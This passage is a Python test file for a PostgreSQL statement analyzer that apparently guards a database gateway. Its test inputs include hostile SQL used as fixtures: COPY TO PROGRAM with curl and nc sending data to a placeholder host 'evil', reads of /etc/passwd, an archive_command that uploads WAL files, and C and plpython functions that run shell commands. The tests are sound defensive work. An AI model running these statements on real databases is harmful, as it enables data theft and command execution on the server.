            "COPY customers TO PROGRAM 'curl -d @- evil'",
            CopyFacts("to", CopyTarget.PROGRAM, ("public", "customers")),
            False,
            "read",
        ),
        (
            "COPY customers FROM STDIN",
            CopyFacts("from", CopyTarget.STDIN, ("public", "customers")),
            False,
            "insert",
        ),
        (
            "COPY customers FROM '/etc/passwd'",
            CopyFacts("from", CopyTarget.FILE, ("public", "customers")),
            False,
            "insert",
        ),
        (
            "COPY customers FROM PROGRAM 'id'",
            CopyFacts("from", CopyTarget.PROGRAM, ("public", "customers")),
            False,
            "insert",
        ),
        (
            "COPY (SELECT email FROM customers) TO STDOUT",
            CopyFacts("to", CopyTarget.STDOUT, None),
            True,
            "read",
        ),
        (
            "COPY (SELECT email FROM customers) TO PROGRAM 'nc evil 80'",
            CopyFacts("to", CopyTarget.PROGRAM, None),
            False,
            "read",
        ),
    ],
)
def test_copy_variants(sql: str, copy: CopyFacts, returns_rows: bool, access: str) -> None:
    stmt = one(sql)
    assert stmt.copy == copy
    assert stmt.returns_rows is returns_rows
    assert uses(stmt) == {("public.customers", access, None)}


def test_copy_outputs_and_query_facts() -> None:
    assert out(one("COPY customers (email, phone) TO STDOUT")) == [
        ("email", {"customers.email"}, True, False),
        ("phone", {"customers.phone"}, True, False),
    ]
    stmt = one("COPY (SELECT upper(name) FROM customers WHERE email LIKE '%x') TO STDOUT WITH (FORMAT csv)")
    assert out(stmt) == [("upper", {"customers.name"}, False, False)]
    assert cols(stmt, Clause.WHERE) == {"customers.email"}
    assert one("COPY customers FROM STDIN").outputs is None


def test_copy_from_where_and_columns() -> None:
    stmt = one("COPY customers (id, email) FROM STDIN WHERE phone IS NULL")
    assert cols(stmt, Clause.SET) == {"customers.id", "customers.email"}
    assert cols(stmt, Clause.WHERE) == {"customers.phone"}


def test_copy_of_a_delete_returning_is_a_delete() -> None:
    stmt = one("COPY (DELETE FROM customers RETURNING email) TO STDOUT")
    assert ("public.customers", "delete", None) in uses(stmt)
    assert out(stmt) == [("email", {"customers.email"}, True, False)]


def test_copy_to_a_file_is_not_cacheable_copy_to_stdout_is() -> None:
    assert not run("COPY customers TO '/tmp/a'").cacheable
    assert not run("COPY customers TO PROGRAM 'x'").cacheable
    assert run("COPY customers TO STDOUT").cacheable


# ---------------------------------------------------------------------- nested statements


def test_explain_plans_without_running() -> None:
    stmt = one("EXPLAIN DELETE FROM customers")
    assert stmt.executes is False
    assert stmt.returns_rows
    assert uses(stmt) == {("public.customers", "read", None)}  # planned, not run: no write happens
    assert [o.name for o in stmt.outputs or ()] == ["QUERY PLAN"]


@pytest.mark.parametrize(
    "sql",
    [
        "EXPLAIN ANALYZE DELETE FROM customers",
        "EXPLAIN (ANALYZE) DELETE FROM customers",
        "EXPLAIN (ANALYZE true, BUFFERS) DELETE FROM customers",
        "EXPLAIN (ANALYZE on) DELETE FROM customers",
        "EXPLAIN (ANALYZE 1) DELETE FROM customers",
        "EXPLAIN (FORMAT json, ANALYZE) DELETE FROM customers",
    ],
)
def test_explain_analyze_runs_the_write(sql: str) -> None:
    stmt = one(sql)
    assert stmt.executes is True
    assert uses(stmt) == {("public.customers", "delete", None)}


@pytest.mark.parametrize("option", ["ANALYZE false", "ANALYZE off", "ANALYZE 0", "FORMAT json"])
def test_explain_with_analyze_off_does_not_run(option: str) -> None:
    assert one(f"EXPLAIN ({option}) DELETE FROM customers").executes is False


def test_explain_analyze_of_create_table_as_creates() -> None:
    stmt = one("EXPLAIN ANALYZE CREATE TABLE t AS SELECT * FROM customers")
    assert stmt.creates_object
    assert stmt.writes_from_query
    assert not one("EXPLAIN CREATE TABLE t AS SELECT * FROM customers").creates_object


def test_prepare_folds_the_statement_and_does_not_run_it() -> None:
    stmt = one("PREPARE p(int) AS SELECT email FROM customers WHERE id = $1")
    assert (stmt.command, stmt.prepared_name, stmt.executes, stmt.returns_rows) == (
        "prepare",
        "p",
        False,
        False,
    )
    assert reads(stmt) == {"public.customers"}
    assert out(stmt) == [("email", {"customers.email"}, True, False)]


def test_prepare_of_a_write_keeps_the_write() -> None:
    assert uses(one("PREPARE d AS DELETE FROM customers")) == {("public.customers", "delete", None)}


def test_execute_of_an_unknown_name_is_left_to_the_gateway() -> None:
    stmt = one("EXECUTE p(1)")
    assert (stmt.command, stmt.prepared_name, stmt.returns_rows) == ("execute", "p", True)
    assert stmt.unanalyzable is None
    assert stmt.outputs is None
    assert any("tracks it by name" in n for n in stmt.notes)


def test_execute_of_a_statement_prepared_earlier_in_the_string() -> None:
    prepare, execute, deallocate = run(
        "PREPARE p AS SELECT email FROM customers; EXECUTE p; DEALLOCATE p"
    ).statements
    assert prepare.prepared_name == execute.prepared_name == deallocate.prepared_name == "p"
    assert reads(execute) == {"public.customers"}
    assert out(execute) == [("email", {"customers.email"}, True, False)]
    assert deallocate.command == "deallocate"


def test_execute_parameters_are_analyzed() -> None:
    stmt = one("EXECUTE p((SELECT card_number FROM customers LIMIT 1))")
    assert reads(stmt) == {"public.customers"}


def test_cursors_declare_fetch_move_close() -> None:
    declare, fetch, move, close = run(
        "DECLARE c CURSOR WITH HOLD FOR SELECT card_number FROM customers; FETCH 10 FROM c; MOVE c; CLOSE c"
    ).statements
    assert (declare.command, declare.prepared_name, declare.returns_rows) == ("declare", "c", False)
    assert reads(declare) == {"public.customers"}
    assert out(declare) == [("card_number", {"customers.card_number"}, True, False)]
    assert (fetch.command, fetch.prepared_name, fetch.returns_rows) == ("fetch", "c", True)
    assert out(fetch) == out(declare)
    assert (move.command, move.prepared_name, move.returns_rows) == ("move", "c", False)
    assert (close.command, close.prepared_name) == ("close", "c")


F, B = FetchDirection.FORWARD, FetchDirection.BACKWARD


@pytest.mark.parametrize(
    ("sql", "fetch"),
    [
        ("FETCH c", FetchFacts(F, 1)),
        ("FETCH NEXT FROM c", FetchFacts(F, 1)),
        ("FETCH 5 FROM c", FetchFacts(F, 5)),
        ("FETCH FORWARD 5 IN c", FetchFacts(F, 5)),
        ("FETCH ALL FROM c", FetchFacts(F, None)),
        ("FETCH FORWARD ALL FROM c", FetchFacts(F, None)),
        ("FETCH 2147483647 FROM c", FetchFacts(F, 2147483647)),  # the largest count, not ALL
        ("FETCH 0 FROM c", FetchFacts(F, 0)),  # the current row again
        ("FETCH BACKWARD 3 FROM c", FetchFacts(B, 3)),
        ("FETCH BACKWARD ALL FROM c", FetchFacts(B, None)),
        ("FETCH PRIOR FROM c", FetchFacts(B, 1)),
        ("FETCH -3 FROM c", FetchFacts(B, 3)),  # PostgreSQL reverses a negative count
        ("FETCH BACKWARD -3 FROM c", FetchFacts(F, 3)),
        ("FETCH ABSOLUTE 1000000 FROM c", FetchFacts(FetchDirection.ABSOLUTE, 1000000)),
        ("FETCH LAST FROM c", FetchFacts(FetchDirection.ABSOLUTE, -1)),
        ("FETCH RELATIVE -2 FROM c", FetchFacts(FetchDirection.RELATIVE, -2)),
        ("MOVE ALL FROM c", FetchFacts(F, None)),
    ],
)
def test_fetch_direction_and_count_as_postgresql_runs_them(sql: str, fetch: FetchFacts) -> None:
    stmt = one(sql)
    assert (stmt.prepared_name, stmt.fetch) == ("c", fetch)


def test_fetch_counts_survive_normalization() -> None:
    """Analyses are cached by normalized text; the relay lowers FETCH counts from the cached facts,
    so a count must never be replaced by $n (a FETCH 5 would then run as a cached FETCH ALL)."""
    assert normalize("FETCH 5 FROM c") == "FETCH 5 FROM c"
    assert len({normalize(f"FETCH {n} FROM c") for n in ("5", "6", "ALL", "BACKWARD 5")}) == 4


def test_fetch_from_a_cursor_declared_elsewhere() -> None:
    stmt = one("FETCH ALL FROM elsewhere")
    assert (stmt.prepared_name, stmt.returns_rows, stmt.outputs, stmt.unanalyzable) == (
        "elsewhere",
        True,
        None,
        None,
    )


@pytest.mark.parametrize(
    ("sql", "command"),
    [
        ("CREATE TABLE copy AS SELECT * FROM customers", "create_table_as"),
        ("CREATE TEMP TABLE copy AS SELECT email FROM customers WITH DATA", "create_table_as"),
        ("SELECT * INTO copy FROM customers", "select_into"),
        (
            "SELECT email INTO TEMP copy FROM customers UNION SELECT email FROM archive.customers",
            "select_into",
        ),
        ("CREATE MATERIALIZED VIEW mv AS SELECT email FROM customers", "create_view"),
    ],
)
def test_objects_created_from_protected_rows(sql: str, command: str) -> None:
    stmt = one(sql)
    assert stmt.command == command
    assert stmt.creates_object
    assert stmt.writes_from_query
    assert "public.customers" in reads(stmt)
    assert not stmt.returns_rows
    assert stmt.outputs is None


def test_create_table_as_with_no_data_copies_no_rows() -> None:
    stmt = one("CREATE TABLE t AS SELECT * FROM customers WITH NO DATA")
    assert stmt.creates_object
    assert not stmt.writes_from_query


def test_create_view_folds_its_query() -> None:
    stmt = one("CREATE VIEW leak AS SELECT card_number FROM customers")
    assert (stmt.command, stmt.creates_object, stmt.writes_from_query) == ("create_view", True, False)
    assert reads(stmt) == {"public.customers"}
    assert ("public.customer_names", "ddl", None) in uses(
        one("CREATE OR REPLACE VIEW customer_names AS SELECT 1")
    )


def test_insert_select_copies_rows() -> None:
    stmt = one("INSERT INTO orders (id, status) SELECT id, card_number FROM customers")
    assert stmt.writes_from_query
    assert uses(stmt) == {("public.orders", "insert", None), ("public.customers", "read", None)}
    assert cols(stmt, Clause.SET) == {"orders.id", "orders.status"}


def test_insert_values_with_a_subquery_copies_rows() -> None:
    assert one("INSERT INTO orders (status) VALUES ((SELECT email FROM customers LIMIT 1))").writes_from_query


def test_create_function_in_sql_folds_its_body() -> None:
    stmt = one(
        "CREATE FUNCTION leak(int) RETURNS text LANGUAGE sql "
        "AS $$ SELECT email FROM customers WHERE id = $1 $$"
    )
    assert (stmt.command, stmt.creates_object) == ("create_function", True)
    assert reads(stmt) == {"public.customers"}
    atomic = one(
        "CREATE FUNCTION f(i int) RETURNS text LANGUAGE sql "
        "BEGIN ATOMIC SELECT phone FROM customers WHERE id = i; END"
    )
    assert reads(atomic) == {"public.customers"}
    assert atomic.notes == ()  # the parameter i is not an unknown column


def test_create_function_in_plpgsql_folds_its_body_and_dynamic_sql() -> None:
    stmt = one(
        "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ DECLARE n int; BEGIN "
        "SELECT count(*) INTO n FROM customers; EXECUTE 'DELETE FROM ' || 'orders'; END $$"
    )
    assert reads(stmt) == {"public.customers"}
    assert FunctionClass.DYNAMIC_SQL in stmt.function_classes
    assert stmt.unanalyzable is None


def test_create_function_in_c_or_an_untrusted_language_reaches_the_server() -> None:
    assert (
        FunctionClass.SERVER_PROGRAM
        in one("CREATE FUNCTION sh(text) RETURNS int LANGUAGE c AS '/tmp/evil.so', 'sh'").function_classes
    )
    assert (
        FunctionClass.SERVER_PROGRAM
        in one("CREATE FUNCTION sh() RETURNS int LANGUAGE plpython3u AS 'import os'").function_classes
    )


def test_create_rule_folds_its_actions_with_new_and_old() -> None:
    stmt = one(
        "CREATE RULE r AS ON UPDATE TO customers DO ALSO INSERT INTO orders (status) VALUES (NEW.card_number)"
    )
    assert stmt.creates_object
    assert uses(stmt) == {("public.customers", "ddl", None), ("public.orders", "insert", None)}
    assert "customers.card_number" in cols(stmt, Clause.OUTPUT)


def test_create_trigger_resolves_its_function() -> None:
    stmt = one(
        "CREATE TRIGGER t AFTER INSERT ON customers FOR EACH ROW "
        "WHEN (NEW.email IS NOT NULL) EXECUTE FUNCTION my_func()"
    )
    assert stmt.creates_object
    assert stmt.functions == ("public.my_func",)
    assert cols(stmt, Clause.WHERE) == {"customers.email"}


def test_ddl_that_evaluates_functions_over_existing_rows() -> None:
    stmt = one("ALTER TABLE customers ADD COLUMN leak text DEFAULT pg_read_file('/etc/passwd')")
    assert FunctionClass.SERVER_FILES in stmt.function_classes
    assert uses(stmt) == {("public.customers", "ddl", None)}


def test_ddl_on_foreign_servers_and_files() -> None:
    assert FunctionClass.REMOTE in one("CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw").function_classes
    assert (
        FunctionClass.SERVER_FILES
        in one(
            "CREATE FOREIGN TABLE pw (line text) SERVER files OPTIONS (filename '/etc/passwd')"
        ).function_classes
    )
    assert (
        FunctionClass.SERVER_PROGRAM
        in one("CREATE FOREIGN TABLE ps (line text) SERVER files OPTIONS (program 'ps aux')").function_classes
    )


def test_schema_elements_are_analyzed() -> None:
    stmt = one("CREATE SCHEMA s CREATE VIEW v AS SELECT email FROM customers")
    assert stmt.creates_object
    assert reads(stmt) == {"public.customers"}


# ---------------------------------------------------------------------- DO and CALL


def test_do_block_reads_are_folded_in() -> None:
    stmt = one("DO $$ BEGIN RAISE NOTICE '%', (SELECT string_agg(card_number, ',') FROM customers); END $$")
    assert stmt.do_block
    assert reads(stmt) == {"public.customers"}
    assert FunctionClass.DYNAMIC_SQL not in stmt.function_classes
    assert stmt.unanalyzable is None


@pytest.mark.parametrize(
    "body",
    [
        "BEGIN EXECUTE 'SELECT 1'; END",
        "DECLARE r record; BEGIN FOR r IN EXECUTE 'SELECT 1' LOOP END LOOP; END",
        "DECLARE c refcursor; BEGIN OPEN c FOR EXECUTE 'SELECT 1'; END",
        "BEGIN EXECUTE format('COPY %I TO %L', 'customers', '/tmp/x'); END",
    ],
)
def test_do_block_with_execute_is_dynamic_sql(body: str) -> None:
    stmt = one(f"DO $body$ {body} $body$")
    assert stmt.do_block
    assert FunctionClass.DYNAMIC_SQL in stmt.function_classes


def test_do_block_statements_keep_their_effects() -> None:
    stmt = one(
        "DO LANGUAGE plpgsql $$ BEGIN COPY customers TO '/tmp/x'; "
        "PERFORM set_config('role', 'admin', false); END $$"
    )
    assert stmt.copy == CopyFacts("to", CopyTarget.FILE, ("public", "customers"))
    assert stmt.role_switch
    assert stmt.settings == (("role", "admin"),)


def test_do_block_dollar_quote_collision_is_handled() -> None:
    stmt = one("DO $x$ BEGIN PERFORM 1 FROM customers WHERE name = $sekisho$a$sekisho$; END $x$")
    assert reads(stmt) == {"public.customers"}


def test_do_block_in_another_language_is_unanalyzable() -> None:
    stmt = one("DO LANGUAGE plpython3u $$ import os; os.system('id') $$")
    assert stmt.do_block
    assert stmt.unanalyzable is not None
    assert FunctionClass.SERVER_PROGRAM in stmt.function_classes


def test_do_block_that_does_not_parse_is_unanalyzable() -> None:
    assert one("DO $$ BEGIN this is not plpgsql; END $$").unanalyzable is not None


def test_call_is_a_function_call_that_may_return_a_row() -> None:
    stmt = one("CALL my_func((SELECT max(id) FROM customers))")
    assert (stmt.command, stmt.returns_rows) == ("call", True)
    assert FunctionClass.USER_DEFINED in stmt.function_classes
    assert reads(stmt) == {"public.customers"}


# ---------------------------------------------------------------------- roles and settings


@pytest.mark.parametrize(
    ("sql", "settings"),
    [
        ("SET ROLE admin", (("role", "admin"),)),
        ("SET LOCAL ROLE admin", (("role", "admin"),)),
        ("SET ROLE NONE", (("role", "none"),)),
        ("RESET ROLE", (("role", None),)),
        ("SET SESSION AUTHORIZATION admin", (("session_authorization", "admin"),)),
        ("SET SESSION AUTHORIZATION DEFAULT", (("session_authorization", None),)),
        ("RESET SESSION AUTHORIZATION", (("session_authorization", None),)),
        ("SELECT set_config('role', 'admin', false)", (("role", "admin"),)),
        ("SELECT set_config('ROLE', 'admin', true)", (("role", "admin"),)),
        ("SELECT set_config(U&'\\0072ole', 'admin', false)", (("role", "admin"),)),
        ("WITH x AS (SELECT set_config('role', 'admin', false)) SELECT 1 FROM x", (("role", "admin"),)),
        (
            "SELECT pg_catalog.set_config('session_authorization', 'admin', false)",
            (("session_authorization", "admin"),),
        ),
        ("SELECT set_config('ro' || 'le', 'admin', false)", (("?", None),)),
        ("SELECT set_config(name, 'x', false) FROM pg_settings", (("?", None),)),
        ("DISCARD ALL", (("all", None),)),
    ],
)
def test_role_switches(sql: str, settings: tuple[tuple[str, str | None], ...]) -> None:
    stmt = one(sql)
    assert stmt.role_switch
    assert stmt.settings == settings


def test_alter_role_is_ddl_not_a_switch() -> None:
    stmt = one("ALTER ROLE bob SUPERUSER")
    assert (stmt.command, stmt.role_switch) == ("ddl", False)


@pytest.mark.parametrize(
    ("sql", "settings"),
    [
        ("SET work_mem = '64MB'", (("work_mem", "64MB"),)),
        ("SET work_mem TO 65536", (("work_mem", "65536"),)),
        ("SET LOCAL statement_timeout = 0", (("statement_timeout", "0"),)),
        ("SET random_page_cost = 1.5", (("random_page_cost", "1.5"),)),
        ("SET enable_seqscan = off", (("enable_seqscan", "off"),)),
        ("SET enable_seqscan TO DEFAULT", (("enable_seqscan", None),)),
        ("RESET enable_seqscan", (("enable_seqscan", None),)),
        ("RESET ALL", (("all", None),)),
        (
            "SET search_path = archive, \"Public\", 'my schema', public",
            (("search_path", 'archive, "Public", "my schema", public'),),
        ),
        ("SET search_path TO DEFAULT", (("search_path", None),)),
        ("SET SCHEMA 'archive'", (("search_path", "archive"),)),
        ("SET TIME ZONE 'UTC'", (("timezone", "UTC"),)),
        ("SET NAMES 'SQL_ASCII'", (("client_encoding", "SQL_ASCII"),)),
        ("SET standard_conforming_strings = off", (("standard_conforming_strings", "off"),)),
        ("SET datestyle = ISO, MDY", (("datestyle", "iso, mdy"),)),  # unquoted names fold to lower case
        ("SET \"Work_Mem\" = '1MB'", (("work_mem", "1MB"),)),
        ("SELECT set_config('client_encoding', 'LATIN1', false)", (("client_encoding", "LATIN1"),)),
        ("SELECT set_config('work_mem', current_setting('work_mem'), false)", (("work_mem", None),)),
        ("SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", (("transaction_isolation", "serializable"),)),
        ("SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY", (("default_transaction_read_only", "on"),)),
        ("BEGIN ISOLATION LEVEL REPEATABLE READ", (("transaction_isolation", "repeatable read"),)),
        ("ALTER SYSTEM SET archive_command = 'curl -d @%p evil'", (("archive_command", "curl -d @%p evil"),)),
    ],
)
def test_settings(sql: str, settings: tuple[tuple[str, str | None], ...]) -> None:
    stmt = one(sql)
    assert stmt.settings == settings
    assert not stmt.role_switch


def test_alter_system_is_admin_and_may_run_programs() -> None:
    stmt = one("ALTER SYSTEM SET archive_command = 'curl -d @%p evil'")
    assert {FunctionClass.ADMIN, FunctionClass.SERVER_PROGRAM} <= stmt.function_classes


def test_set_search_path_widens_resolution_for_later_statements() -> None:
    first, second = run("SET search_path = archive; SELECT * FROM orders_2020").statements
    assert first.settings == (("search_path", "archive"),)
    assert reads(second) == {"archive.orders_2020"}


def test_search_path_values_read_back() -> None:
    assert search_path_schemas('"$user", public, "My Schema", Archive') == ("public", "My Schema", "archive")
    assert quote_identifier("select") == '"select"'
    assert quote_identifier("plain_1") == "plain_1"
    assert parse_qualified('db."My".T') == ("My", "t")
    assert parse_qualified('"unterminated') is None


# ---------------------------------------------------------------------- cacheable


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT name FROM customers WHERE id = 1",
        "INSERT INTO orders (id, amount) VALUES (1, 2)",
        "UPDATE orders SET amount = 3 WHERE id = 4",
        "DELETE FROM orders WHERE id = 5",
        "SELECT email FROM customers ORDER BY 1 LIMIT 10",
        "SELECT 'customers'::regclass",
        "COPY customers TO STDOUT",
        "RESET ROLE",
        "SHOW work_mem",
    ],
)
def test_ordinary_statements_are_cacheable(sql: str) -> None:
    assert run(sql).cacheable


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT set_config('work_mem', '1MB', false)",
        "SET work_mem = '1MB'",
        "SET ROLE admin",
        "COPY customers TO '/tmp/x'",
        "SELECT table_to_xml('customers', true, false, '')",
        "SELECT query_to_xml('SELECT 1', true, false, '')",
        "DO $$BEGIN NULL; END$$",
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'",
        "SELECT DISTINCT ON (1) email FROM customers",
        "LOAD 'x'",
        "SELECT 1; SET work_mem = '1MB'",
    ],
)
def test_facts_that_depend_on_a_literal_are_not_cacheable(sql: str) -> None:
    assert not run(sql).cacheable


# ---------------------------------------------------------------------- returns_rows


@pytest.mark.parametrize(
    ("sql", "rows"),
    [
        ("SELECT 1", True),
        ("VALUES (1)", True),
        ("TABLE orders", True),
        ("SHOW ALL", True),
        ("FETCH c", True),
        ("EXECUTE p", True),
        ("EXPLAIN SELECT 1", True),
        ("INSERT INTO orders (id) VALUES (1) RETURNING id", True),
        ("INSERT INTO orders (id) VALUES (1)", False),
        ("SELECT 1 INTO t", False),
        ("COPY orders TO STDOUT", True),
        ("COPY orders FROM STDIN", False),
        ("DECLARE c CURSOR FOR SELECT 1", False),
        ("PREPARE p AS SELECT 1", False),
        ("SET work_mem = '1MB'", False),
        ("BEGIN", False),
    ],
)
def test_returns_rows(sql: str, rows: bool) -> None:
    assert one(sql).returns_rows is rows


def test_show_outputs() -> None:
    assert [o.name for o in one("SHOW ALL").outputs or ()] == ["name", "setting", "description"]
    assert [o.name for o in one("SHOW TIME ZONE").outputs or ()] == ["timezone"]


# ---------------------------------------------------------------------- fail closed


def test_walker_faults_become_unanalyzable(monkeypatch: pytest.MonkeyPatch) -> None:
    """A bug in the walker must fail closed for that statement, not raise or let it through."""

    def broken(self: StatementWalker, fields: object) -> None:
        raise KeyError("boom")

    monkeypatch.setitem(statements_module._STATEMENTS, "SelectStmt", broken)
    analysis = analyze("SELECT 1; SHOW work_mem", CATALOG)
    assert analysis.statements[0].unanalyzable is not None
    assert "KeyError" in analysis.statements[0].unanalyzable
    assert analysis.statements[1].unanalyzable is None
    assert not analysis.cacheable


def test_too_deep_nesting_is_unanalyzable_not_an_exception() -> None:
    analysis = analyze("SELECT " + "ARRAY[" * 400 + "1" + "]" * 400, CATALOG)
    assert analysis.error is not None or analysis.statements[0].unanalyzable is not None


def test_a_string_over_the_size_budget_is_unanalyzable_without_parsing() -> None:
    budget = Budget(max_bytes=4096, seconds=10)
    sql = "SELECT name FROM customers WHERE id IN (" + ",".join(map(str, range(2000))) + ")"
    analysis = analyze(sql, CATALOG, ("public",), budget)
    assert len(analysis.statements) == 1
    reason = analysis.statements[0].unanalyzable
    assert reason is not None
    assert "more than the 4,096 bytes" in reason
    assert "limits.max_statement_bytes" in reason
    assert not analysis.cacheable
    # Multi-byte characters count as their UTF-8 bytes, not as characters.
    wide = "SELECT '" + "送" * 1400 + "'"  # 1,400 characters, 4,209 bytes
    assert analyze(wide, CATALOG, ("public",), budget).statements[0].unanalyzable is not None
    assert analyze(wide[:1000] + "'", CATALOG, ("public",), budget).statements[0].unanalyzable is None


def test_a_string_over_the_time_budget_refuses_what_was_not_established() -> None:
    budget = Budget(max_bytes=1 << 30, seconds=0.05)
    slow = "SELECT name FROM customers WHERE id IN (" + ",".join(map(str, range(200_000))) + ")"
    analysis = analyze(f"SELECT 1; {slow}; SELECT 2", CATALOG, ("public",), budget)
    reasons = [s.unanalyzable for s in analysis.statements]
    assert len(reasons) == 3
    assert reasons[1] is not None
    assert "limits.analysis_seconds" in reasons[1]
    assert reasons[2] is not None  # nothing after the deadline is walked
    assert not analysis.cacheable
    # The same string without a budget is analyzed in full.
    unbounded = analyze(f"SELECT 1; {slow}; SELECT 2", CATALOG)
    assert [s.unanalyzable for s in unbounded.statements] == [None, None, None]


def test_multi_statement_strings_get_one_fact_each() -> None:
    statements = run("SELECT 1; DELETE FROM customers; SET ROLE admin;;").statements
    assert [s.command for s in statements] == ["select", "delete", "set"]
    assert statements[2].role_switch


def test_non_breaking_space_is_part_of_an_identifier_as_postgresql_reads_it() -> None:
    # "LIMIT<U+00A0>5" is an alias to PostgreSQL, not a row limit: every row is read.
    stmt = one("SELECT email FROM customers LIMIT\u00a05")
    assert reads(stmt) == {"public.customers"}
    assert out(stmt) == [("email", {"customers.email"}, True, False)]


# ---------------------------------------------------------------------- psql


@pytest.mark.parametrize("name", list(PSQL_QUERIES))
def test_psql_catalog_queries_analyze_cleanly(name: str) -> None:
    stmt = one(PSQL_QUERIES[name], EVERY_SCHEMA)
    assert stmt.command == "select"
    assert stmt.unanalyzable is None
    assert stmt.tables
    assert {t.relation[0] for t in stmt.tables} == {"pg_catalog"}
    assert stmt.outputs is not None
    assert stmt.notes == ()
    assert all(f.startswith("pg_catalog.") for f in stmt.functions)
    assert stmt.function_classes == frozenset()


def test_psql_describe_resolves_catalog_columns() -> None:
    stmt = one(PSQL_QUERIES["\\d customers (1/9)"])
    assert out(stmt) == [
        ("oid", {"pg_catalog.pg_class.oid"}, True, False),
        ("nspname", {"pg_catalog.pg_namespace.nspname"}, True, False),
        ("relname", {"pg_catalog.pg_class.relname"}, True, False),
    ]
    assert ColumnUse(("pg_catalog", "pg_class"), "relname", Clause.WHERE) in stmt.columns


# ---------------------------------------------------------------------- properties

TOKENS = sorted(
    words(
        """
        SELECT FROM WHERE customers orders archive.customers c o . , ( ) * = 1 'x' $1 $$a$$ JOIN ON
        USING AS WITH RECURSIVE UNION EXCEPT GROUP BY HAVING ORDER LIMIT INSERT INTO VALUES UPDATE SET
        DELETE RETURNING COPY TO STDOUT STDIN PROGRAM EXPLAIN ANALYZE PREPARE EXECUTE DECLARE CURSOR FOR
        FETCH DO CALL LATERAL EXISTS IN name email id row_to_json set_config table_to_xml ; TABLE ROW
        CASE WHEN THEN ELSE END :: text NULL AND OR NOT DISTINCT OVER PARTITION WINDOW MERGE MATCHED
        CREATE VIEW DROP ALTER GRANT RESET ALL SHOW VACUUM pg_class array [ ] json_agg count
        generate_series NATURAL FULL CROSS IS JSON unnest ROLE SESSION AUTHORIZATION
        """
    )
)
SOUP = st.lists(st.sampled_from(TOKENS), min_size=1, max_size=30).map(" ".join)
STARTS = st.sampled_from(
    [
        "",
        "SELECT ",
        "SELECT * FROM customers c WHERE ",
        "WITH x AS (SELECT * FROM customers) SELECT ",
        "COPY (",
    ]
)


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.text())
def test_never_raises_on_arbitrary_text(sql: str) -> None:
    assert isinstance(analyze(sql, CATALOG, EVERY_SCHEMA), Analysis)


@settings(max_examples=600, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(STARTS, SOUP)
def test_never_fails_internally_on_sql_token_soup(start: str, soup: str) -> None:
    analysis = analyze(start + soup, CATALOG, EVERY_SCHEMA)
    assert isinstance(analysis, Analysis)
    for stmt in analysis.statements:
        assert not (stmt.unanalyzable or "").startswith("analysis failed"), stmt.unanalyzable


@pytest.mark.parametrize(
    ("sql", "params"),
    [
        ("EXECUTE p", ()),
        ("EXECUTE p(5, 'x', NULL, -1, 1.5, true)", ("5", "x", None, "-1", "1.5", "true")),
        ("EXECUTE p(1::int)", None),
        ("EXECUTE p(2 + 3)", None),
        ("EXECUTE p(B'101')", None),
        ("EXECUTE p(now())", None),
    ],
)
def test_execute_records_its_arguments_when_all_are_plain_literals(
    sql: str, params: tuple[str | None, ...] | None
) -> None:
    analysis = analyze(sql, CATALOG)
    assert analysis.statements[0].execute_params == params
    # Literal arguments are facts: the analysis is not shared with other literals.
    assert analysis.cacheable == (not params)
